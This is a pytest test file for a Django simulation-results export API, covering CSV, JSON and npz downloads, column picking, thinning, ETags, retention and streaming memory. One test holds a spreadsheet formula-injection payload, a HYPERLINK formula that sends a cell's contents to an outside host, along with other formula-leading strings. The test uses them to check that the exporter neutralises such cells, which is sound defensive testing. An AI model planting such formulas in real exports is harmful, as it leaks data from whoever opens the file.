"""Results: whole, thinned out, some columns; as CSV, JSON and npz; in constant memory."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.test import Client
from django.utils import timezone
from pytest_django import Settings
from rest_framework.test import APIClient

from accounts.models import User
from simulations.fmi import nearest
from simulations.fmi.experiment import Column, Result
from simulations.models import FmuHolding, Simulation, Status
from simulations.services import exports, retention
from simulations.tests import fmus
from simulations.tests.conftest import client_of
from simulations.tests.worker import WorkerProcess

pytestmark = pytest.mark.usefixtures("free")

MILLION = 1_000_000


def content(response: Any) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def finished(api: APIClient, ball: FmuHolding) -> dict[str, Any]:
    """A run of 401 rows."""
    body: dict[str, Any] = api.post("/simulate", {"fmu_id": "sample:BouncingBall"}).json()
    return body


def stored(user: User, data: np.ndarray[Any, Any], columns: list[dict[str, Any]]) -> Simulation:
    """A simulation whose result is `data`."""
    buffer = io.BytesIO()
    np.save(buffer, data)
    now = timezone.now()
    return Simulation.objects.create(
        user=user,
        fmu_public_id="fmu_x",
        sha256="0" * 64,
        model_name="Made",
        fmi_version="2.0",
        request={"outputs": []},
        limits={},
        status=Status.SUCCEEDED,
        rows=len(data),
        columns=columns,
        result=default_storage.save("results/made.npy", ContentFile(buffer.getvalue())),
        finished_at=now,
    )


def test_all_formats_hold_the_same_numbers(api: APIClient, finished: dict[str, Any]) -> None:
    urls, inline = finished["result"]["urls"], finished["result"]["data"]
    rows = list(csv.DictReader(io.StringIO(content(api.get(urls["csv"])).decode())))
    whole = json.loads(content(api.get(urls["json"])))
    arrays = np.load(io.BytesIO(content(api.get(urls["npz"]))))
    assert [float(row["h"]) for row in rows] == inline["h"] == whole["data"]["h"] == arrays["h"].tolist()
    assert (whole["rows"], whole["complete"]) == (len(rows), True)


def test_csv_is_plain_numbers_with_one_header(api: APIClient, finished: dict[str, Any]) -> None:
    response = api.get(finished["result"]["urls"]["csv"])
    lines = content(response).decode().splitlines()
    assert lines[0].startswith("time,h,v")
    assert lines[1].startswith("0.0,1.0,0.0")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{finished["id"]}.csv"'


def test_outputs_pick_columns_in_their_order(api: APIClient, finished: dict[str, Any]) -> None:
    text = content(api.get(f"{finished['result']['urls']['csv']}?outputs=v,h")).decode()
    assert text.splitlines()[0] == "time,v,h"


def test_the_name_of_an_array_picks_all_of_its_columns(api: APIClient, worker: WorkerProcess) -> None:
    fmus.load_sample("BatteryCell")
    request = {"fmu_id": "sample:BatteryCell", "stop_time": 10, "outputs": ["soc", "T"]}
    url = api.post("/simulate", request).json()["result"]["urls"]["csv"]
    headings = [content(api.get(f"{url}?outputs={names}")).decode().splitlines()[0] for names in ("T", "T[1],T,soc")]
    assert headings == ["time,T[0],T[1],T[2],T[3],T[4]", "time,T[1],T[0],T[2],T[3],T[4],soc"]


def test_an_unknown_output_is_named_with_a_suggestion(api: APIClient, finished: dict[str, Any]) -> None:
    response = api.get(f"{finished['result']['urls']['csv']}?outputs=h,energi")
    assert response.status_code == 400
    assert "did you mean 'energy'?" in response.json()["errors"][0]["message"]


def test_max_points_keeps_ends_and_extremes(api: APIClient, finished: dict[str, Any]) -> None:
    thin = json.loads(content(api.get(f"{finished['result']['urls']['json']}?max_points=50&outputs=h")))
    whole = finished["result"]["data"]
    assert len(thin["data"]["time"]) <= 50
    assert thin["complete"] is False
    assert (thin["data"]["time"][0], thin["data"]["time"][-1]) == (whole["time"][0], whole["time"][-1])
    assert max(thin["data"]["h"]) == max(whole["h"])


@pytest.mark.parametrize("points", ["2", "0", "-1", "many", "1e9", "10000000", "\u0663"])
def test_max_points_out_of_range_is_400(api: APIClient, finished: dict[str, Any], points: str) -> None:
    response = api.get(finished["result"]["urls"]["csv"], {"max_points": points})
    assert response.json()["errors"][0]["field"] == "max_points"


def test_a_result_is_revalidated_by_its_etag(api: APIClient, finished: dict[str, Any]) -> None:
    url = finished["result"]["urls"]["csv"]
    response = api.get(url)
    content(response)
    assert api.get(url, headers={"if-none-match": response.headers["ETag"]}).status_code == 304
    assert api.get(f"{url}?outputs=h", headers={"if-none-match": response.headers["ETag"]}).status_code == 200


@pytest.mark.parametrize("held", ["W/{}", '"other", {}'])
def test_a_proxy_that_compresses_or_holds_several_revalidates_too(client: Any, db: None, held: str) -> None:
    tag = client.get("/openapi.json").headers["ETag"]
    assert client.get("/openapi.json", headers={"if-none-match": held.format(tag)}).status_code == 304


def test_names_with_commas_and_truth_values_survive_every_format(user: User) -> None:
    data = np.array([(0.0, 1.5, True), (1.0, 2.5, False)], dtype=[("time", "f8"), ("A[0,1]", "f8"), ("on", "?")])
    columns = [{"name": "time", "unit": "s"}, {"name": "A[0,1]"}, {"name": "on"}]
    url = f"/api/v1/simulations/{stored(user, data, columns).public_id}/result"
    api = client_of(user)
    assert content(api.get(f"{url}.csv")) == b'time,"A[0,1]",on\n0.0,1.5,1\n1.0,2.5,0\n'
    assert json.loads(content(api.get(f"{url}.json?outputs=A[0,1],on")))["data"]["on"] == [True, False]
    assert np.load(io.BytesIO(content(api.get(f"{url}.npz"))))["A[0,1]"].tolist() == [1.5, 2.5]


def test_texts_stand_as_texts_in_every_format_and_have_no_curve(user: User, ball: FmuHolding) -> None:
    fmus.load_sample("RoomHeating")
    api = client_of(user)
    body = api.post("/simulate", {"fmu_id": "sample:RoomHeating", "outputs": ["message", "T_room"]}).json()
    inline, urls = body["result"]["data"], body["result"]["urls"]
    assert any("Living room" in text for text in inline["message"])
    rows = list(csv.DictReader(io.StringIO(content(api.get(urls["csv"])).decode())))
    whole = json.loads(content(api.get(urls["json"])))["data"]["message"]
    arrays = np.load(io.BytesIO(content(api.get(urls["npz"]))))
    assert [row["message"] for row in rows] == whole == inline["message"]
    assert arrays["texts:message"][arrays["message"]].tolist() == whole
    browser = Client()
    browser.force_login(user)
    plot = browser.get(f"/dashboard/simulations/{body['id']}/plot.json").json()
    assert [column["name"] for column in plot["columns"]] == ["time", "T_room"]


def test_text_with_commas_and_quotes_survives_csv(user: User) -> None:
    data = np.array([(0.0, 1), (1.0, 0)], dtype=[("time", "f8"), ("x", "i8")])
    simulation = stored(user, data, [{"name": "time"}, {"name": "x", "texts": ["", 'a, "b"']}])
    csv_bytes = content(client_of(user).get(f"/api/v1/simulations/{simulation.public_id}/result.csv"))
    assert [row["x"] for row in csv.DictReader(io.StringIO(csv_bytes.decode()))] == ['a, "b"', ""]


def test_no_cell_of_a_csv_is_a_formula(user: User) -> None:
    """Whoever opens a result in a spreadsheet is seldom the model's author."""
    formula = '=HYPERLINK("https://example.com/?" & B2)'
    data = np.array([(0.0, n, 1.0) for n in range(7)], dtype=[("time", "f8"), ("x", "i8"), (formula, "f8")])
    texts = [formula, "@SUM(A1)", "+1+1", "-2+3", "\t=1", "-5", "+1.5e3"]
    columns: list[dict[str, Any]] = [{"name": "time"}, {"name": "x", "texts": texts}, {"name": formula}]
    simulation = stored(user, data, columns)
    csv_bytes = content(client_of(user).get(f"/api/v1/simulations/{simulation.public_id}/result.csv"))
    header, *rows = csv.reader(io.StringIO(csv_bytes.decode(), newline=""))
    assert header == ["time", "x", f"'{formula}"]
    assert [row[1] for row in rows] == [f"'{formula}", "'@SUM(A1)", "'+1+1", "'-2+3", "'\t=1", "-5", "+1.5e3"]


def test_run_of_texts_alone_has_a_page_that_says_when_each_began(user: User) -> None:
    rows = [(0.0, 0), (0.5, 0), (1.0, 1), (1.5, 0), (2.0, 2)]
    data = np.array(rows, dtype=[("time", "f8"), ("x", "i8")])
    simulation = stored(user, data, [{"name": "time"}, {"name": "x", "texts": ["idle", "<b>", ""]}])
    browser = Client()
    browser.force_login(user)
    page = browser.get(f"/dashboard/simulations/{simulation.public_id}/").content.decode()
    assert re.findall(r'"number">(\S+) s</td><td>(.*?)</td>', page) == [
        ("0", "idle"), ("1", "&lt;b&gt;"), ("1.5", "idle"), ("2", '<span class="quiet">empty</span>')
    ]  # fmt: skip
    assert "result.csv" in page


def test_page_shows_the_first_texts_of_many(user: User) -> None:
    data = np.array([(float(row), row % 2) for row in range(100)], dtype=[("time", "f8"), ("x", "i8")])
    simulation = stored(user, data, [{"name": "time"}, {"name": "x", "texts": ["on", "off"]}])
    browser = Client()
    browser.force_login(user)
    page = browser.get(f"/dashboard/simulations/{simulation.public_id}/").content.decode()
    assert page.count("<td>on</td>") + page.count("<td>off</td>") == 12
    assert "and 88 more changes, in the files" in page


def test_what_is_not_finite_is_null_in_json(user: User) -> None:
    data = np.array([(0.0, np.nan), (1.0, np.inf)], dtype=[("time", "f8"), ("x", "f8")])
    simulation = stored(user, data, [{"name": "time", "unit": "s"}, {"name": "x"}])
    url = f"/api/v1/simulations/{simulation.public_id}/result.json"
    assert json.loads(content(client_of(user).get(url)))["data"]["x"] == [None, None]


def test_a_trimmed_result_is_gone_and_says_so(api: APIClient, finished: dict[str, Any], settings: Settings) -> None:
    settings.RESULT_DAYS = 10
    simulation = Simulation.objects.get(public_id=finished["id"])
    Simulation.objects.update(finished_at=timezone.now() - timedelta(days=11))
    assert retention.trim_old_results() == 1
    assert not default_storage.exists(simulation.result)
    response = api.get(finished["result"]["urls"]["csv"])
    assert (response.status_code, response.json()["code"]) == (410, "result_trimmed")
    assert api.get(finished["url"]).json()["result"]["data"] is None


@pytest.mark.parametrize("export", [exports.as_csv, exports.as_json])
def test_a_million_rows_stream_in_constant_memory(export: Any, tmp_path: Any) -> None:
    data = np.lib.format.open_memmap(tmp_path / "x.npy", "w+", [("time", "f8"), ("x", "f8")], (MILLION,))
    data["time"], data["x"] = np.arange(MILLION), np.sqrt(np.arange(MILLION))
    data.flush()
    mapped = np.load(tmp_path / "x.npy", mmap_mode="r")
    result = Result(columns=(Column(name="time"), Column(name="x")), data=mapped)
    before, peak, total = own_memory(), 0, 0
    for piece in export(result):
        total += len(piece)
        peak = max(peak, own_memory())
    assert total > 20 * MILLION
    assert peak - before < 8 << 20


def own_memory() -> int:
    """Bytes of this process that are not pages of files."""
    status = Path("/proc/self/status").read_text()
    return next(int(line.split()[1]) for line in status.splitlines() if line.startswith("RssAnon")) << 10


def test_many_unknown_outputs_of_many_columns_are_answered_in_a_few_words(
    api: APIClient, user: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The author of a model chooses how many columns its result has, and their names."""
    compared: list[int] = []

    def count(name: str, known: list[str], **_: object) -> list[str]:
        compared.extend(len(name) * len(other) for other in known)
        return []

    monkeypatch.setattr(nearest, "get_close_matches", count)
    names = ["time", *(f"{n}".zfill(99) for n in range(500))]
    simulation = stored(user, np.zeros(2, [(name, "<f8") for name in names]), [{"name": name} for name in names])
    asked = ",".join(f"{n}".rjust(99, "q") for n in range(150))
    answer = api.get(f"/api/v1/simulations/{simulation.public_id}/result.csv?outputs={asked}")
    assert (answer.status_code, len(answer.json()["errors"])) == (400, 100)
    assert sum(compared) <= 2_000_000
